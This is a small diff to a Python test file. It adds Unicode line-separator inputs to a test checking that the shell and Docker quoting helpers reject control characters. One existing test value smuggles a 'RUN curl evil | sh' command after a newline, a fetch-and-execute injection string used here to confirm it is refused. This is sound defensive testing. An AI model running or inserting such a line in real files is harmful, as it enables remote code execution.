@@ -23,7 +23,7 @@ def test_shell_quote_is_one_word_that_sh_reads_back(value: str) -> None:
     assert done.stdout == value
 
 
-@pytest.mark.parametrize("value", ["a\nRUN curl evil | sh", "a\rb", "tab\there", "nul\x00"])
+@pytest.mark.parametrize("value", ["a\nRUN curl evil | sh", "a\rb", "tab\there", "nul\x00", "a\u2028b", "a\x85b"])
 def test_control_characters_are_refused(value: str) -> None:
     for quote in (shell_quote, docker_quote):
         with pytest.raises(ValueError, match="control character"):
